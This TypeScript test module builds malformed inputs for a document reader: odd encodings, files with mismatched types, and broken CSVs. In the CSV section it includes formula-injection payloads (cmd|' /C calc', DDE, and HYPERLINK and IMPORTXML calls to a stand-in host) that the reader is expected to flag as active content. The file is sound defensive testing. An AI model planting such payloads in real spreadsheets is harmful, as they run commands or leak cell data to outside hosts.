// Texts, sheets and pictures as unlucky clerks send them and attackers make them; what was expected was written before any was read.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { strToU8 } from 'fflate'
import { p, wordFile } from '../../fixtures/make/word.ts'
import { type Bad, HELD, inBytes, mail } from './bad-files.ts'
import { letter as pdf } from './bad-pages.ts'
import { openDocument, workbook } from './growth-files.ts'

const fixtures = fileURLToPath(new URL('../../fixtures/read', import.meta.url))
const fixture = (odd: string, file: string): Buffer => readFileSync(join(fixtures, odd, file))
const text = (words: string): Uint8Array => strToU8(words)
const latin = (words: string): Uint8Array => Buffer.from(words, 'latin1')
const sheet = (): Uint8Array =>
  workbook(`<row><c t="inlineStr"><is><t>${HELD}</t></is></c><c><v>7</v></c></row>`)

/** EBCDIC of the letters, digits, blank and full stop. */
function ebcdic(words: string): Uint8Array {
  const code = (c: string): number => {
    const at = (from: string, base: number) => base + c.charCodeAt(0) - from.charCodeAt(0)
    if (/[a-i]/.test(c)) return at('a', 0x81)
    if (/[j-r]/.test(c)) return at('j', 0x91)
    if (/[s-z]/.test(c)) return at('s', 0xa2)
    if (/[A-I]/.test(c)) return at('A', 0xc1)
    if (/[J-R]/.test(c)) return at('J', 0xd1)
    if (/[S-Z]/.test(c)) return at('S', 0xe2)
    if (/\d/.test(c)) return at('0', 0xf0)
    return c === '.' ? 0x4b : 0x40
  }
  return Uint8Array.from([...words].map(code))
}

export const badEncodings = (): Bad => ({
  'utf16-big-mark.txt': [
    () => Buffer.concat([inBytes('feff'), Buffer.from(HELD, 'utf16le').swap16()]),
    /held/,
  ],
  'utf16-odd-length.txt': [
    () => Buffer.concat([inBytes('fffe'), Buffer.from(HELD, 'utf16le'), inBytes('0a')]),
    /held/,
  ],
  'mark-in-the-middle.txt': [() => text(`${HELD}\n\ufeff${HELD}`), /held/],
  'mark-within-the-number.txt': [() => text(HELD.replace('7', '\ufeff7\ufeff')), /held/],
  'mark-twice.csv': [() => text('\ufeff\ufeffyear,officers\n2013,7\n'), /^read/],
  'utf8-mark-on-latin.txt': [
    () => Buffer.concat([inBytes('efbbbf'), latin(`${HELD} caf\xe9`)]),
    /held/,
  ],
  'ebcdic.txt': [() => ebcdic(HELD.repeat(5)), /unsupported-format|characters-lost|empty|damaged/],
  'mac-roman.txt': [() => latin(`Caf\x8e\r${HELD}\r`), /held/],
  'returns-only.csv': [() => text('year,officers\r2013,7\r2014,9\r'), /^read/],
  'quotes-of-windows.txt': [() => latin(`\x93${HELD}\x94`), /held/],
  'nought-within.txt': [() => text(HELD.replace('hold', 'ho\0ld')), /^read/],
  'noughts-behind.txt': [() => text(HELD + '\0'.repeat(10_000)), /held/],
  'noughts-before.txt': [() => text('\0'.repeat(300) + HELD), /^(read|unsupported-format)/],
  'unseen-joiner-in-number.txt': [() => text('We hold 1\u200b7 records.'), /^read/],
  'turned-number.txt': [() => text('We hold \u202e71\u202c records of this.'), /^read\(.+\)/],
  'isolated-number.txt': [() => text('We hold \u206771\u2069 records of this.'), /^read/],
  'tag-letters.txt': [() => text(`${HELD}\u{E0039}\u{E0039}`), /held/],
  'wide-digits.txt': [() => text('We hold ７ records of this.'), /^read/],
  'arabic-digits.txt': [() => text('We hold ٧ records of this.'), /^read/],
  'pages-fed.txt': [() => text(`${HELD}\f${HELD}\f`), /held/],
  'struck-by-backspace.txt': [() => text(`We hold 9\b7 records of this.`), /^read/],
  'links-of-terminals.txt': [
    () => text(`\u001b]8;;http://a.example\u0007${HELD}\u001b]8;;\u0007`),
    /held/,
  ],
  'one-long-word.txt': [() => text(`${'a'.repeat(3_000_000)} ${HELD}`), /held/],
  'empty-lines-3000000.txt': [() => text('\n'.repeat(3_000_000) + HELD), /held/],
  'half-pairs.txt': [
    () => Buffer.concat([inBytes('fffe'), Buffer.from(`${HELD}\ud800\ud800`, 'utf16le')]),
    /held/,
  ],
})

export const badKinds = (): Bad => ({
  'one-byte.txt': [() => text('7'), /^read/],
  'one-byte.pdf': [() => text('%'), /damaged|ending-disagrees|unsupported-format/],
  'one-byte.docx': [() => text('P'), /damaged|ending-disagrees|unsupported-format/],
  'one-byte.xlsx': [() => inBytes('50'), /damaged|ending-disagrees|unsupported-format/],
  'one-byte.zip': [() => text('P'), /damaged|ending-disagrees|unsupported-format/],
  'one-byte.png': [() => inBytes('89'), /damaged|ending-disagrees|unsupported-format/],
  'one-byte.doc': [() => inBytes('d0'), /damaged|ending-disagrees|unsupported-format/],
  'one-byte.eml': [() => text('F'), /^read|damaged/],
  'blanks.docx': [() => text('   \n  '), /^(empty|damaged)/],
  'two-letters.zip': [() => text('PK'), /damaged|ending-disagrees|unsupported-format/],
  'word-named.xlsx': [
    () => wordFile({ body: p(HELD) }),
    /held.*ending-disagrees|ending-disagrees.*held/,
  ],
  'sheet-named.csv': [sheet, /ending-disagrees/],
  'sheet-named.docx': [sheet, /ending-disagrees/],
  'pdf-named.docx': [pdf, /ending-disagrees/],
  'word-named.pdf': [() => wordFile({ body: p(HELD) }), /ending-disagrees/],
  'word-named.doc': [() => wordFile({ body: p(HELD) }), /held/],
  'old-word-named.docx': [() => fixture('doc-of-1997', 'reply.doc'), /^read\(.*ending-disagrees/],
  'page-named.xls': [
    () => text(`<html><body><table><tr><td>${HELD}</td><td>7</td></tr></table></body></html>`),
    /ending-disagrees/,
  ],
  'commas-named.xls': [() => text('year,officers\n2013,7\n'), /ending-disagrees/],
  'commas-named.xlsx': [() => text('year,officers\n2013,7\n'), /ending-disagrees/],
  'open-text-named.docx': [
    () => openDocument('text', `<office:text><text:p>${HELD}</text:p></office:text>`),
    /ending-disagrees/,
  ],
  'mail-named.txt': [() => mail(HELD), /held/],
  'mail-named.pdf': [() => mail(HELD), /held/],
  'outlook-named.eml': [() => fixture('mail-outlook-plain', 'reply.msg'), /read/],
  'picture-named.csv': [
    () => fixture('scan-saved-as-jpeg', 'reply.jpg'),
    /^read.*ending-disagrees/,
  ],
  'picture-named.docx': [() => fixture('scan-saved-as-png', 'reply.png'), /ending-disagrees/],
  'noise.csv': [
    () => Uint8Array.from({ length: 20_000 }, (_, i) => (i * 7919 + (i >> 3) * 104_729) & 255),
    /unsupported-format|characters-lost|damaged/,
  ],
  'base.db': [() => latin(`SQLite format 3\0${'\0'.repeat(200)}`), /^unsupported-format/],
  'program.txt': [() => latin(`\x7fELF\x02\x01\x01${'\0'.repeat(90)}`), /^unsupported-format/],
  'packed.bz2': [() => inBytes('425a6839314159265359'), /^unsupported-format/],
  'packed.xz': [() => inBytes('fd377a585a000004'), /^unsupported-format/],
  'packed.zst': [() => inBytes('28b52ffd04000000'), /^unsupported-format/],
  'letter.heic': [() => latin('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), /^unsupported-format/],
  'letter.webp': [() => latin('RIFF\x24\0\0\0WEBPVP8 '), /^unsupported-format/],
  'letter.bmp': [
    () => latin(`BM\x46\0\0\0\0\0\0\0\x36\0\0\0${'\0'.repeat(60)}`),
    /^unsupported-format/,
  ],
  'letter.jp2': [() => inBytes('0000000c6a5020200d0a870a'), /^unsupported-format/],
  'letter-big.tif': [() => latin('MM\0*\0\0\0\x08\0\0'), /^unsupported-format/],
})

export const badCommas = (): Bad => ({
  'quote-never-closed.csv': [
    () => text('year,officers\n"2013,7\n2014,9\n2015,11\n'),
    /^read\(.+\)/,
  ],
  'quote-within.csv': [() => text('name,officers\nThe "A" team,7\n'), /^read/],
  'delimiters-mixed.csv': [() => text('year;officers\n2013,7\n2014;9\n'), /^read/],
  'row-longer.csv': [() => text('force,officers\nMet,1,234\nKent,7\n'), /row-longer-than-head/],
  'sep-line.csv': [() => text('sep=;\nyear;officers\n2013;7\n'), /^read/],
  'wide-100000.csv': [
    () => text(`${'a,'.repeat(100_000)}\n${'7,'.repeat(100_000)}`),
    /read|too-many-cells/,
  ],
  'starts-plus.csv': [() => text("year,officers\n2013,+cmd|' /C calc'!A0\n"), /active-content/],
  'starts-minus.csv': [
    () => text("year,officers\n2013,-2+3+cmd|' /C calc'!A0\n"),
    /active-content/,
  ],
  'starts-at.csv': [() => text("year,officers\n2013,@SUM(cmd|' /C calc'!A0)\n"), /active-content/],
  'starts-tab.csv': [
    () => text('year,officers\n2013,"\t=cmd|\' /C calc\'!A0"\n'),
    /active-content/,
  ],
  'dde-said.csv': [
    () => text('year,officers\n2013,"=DDE(""cmd"";""/C calc"";""x"")"\n'),
    /active-content/,
  ],
  'link-said.csv': [
    () => text('year,officers\n2013,"=HYPERLINK(""http://a.example?x=""&A1,""7"")"\n'),
    /(active|outside)-content/,
  ],
  'imports.csv': [
    () => text('year,officers\n2013,"=IMPORTXML(""http://a.example"",""//a"")"\n'),
    /(active|outside)-content/,
  ],
  'minus-numbers.csv': [
    () => text('year,change\n2013,-7\n2014,+9\n2015,-\n'),
    /^read\((?!.*active-content)/,
  ],
  'handles.csv': [
    () => text('account,posts\n@KentPolice,7\n@essex,9\n'),
    /^read\((?!.*active-content)/,
  ],
})
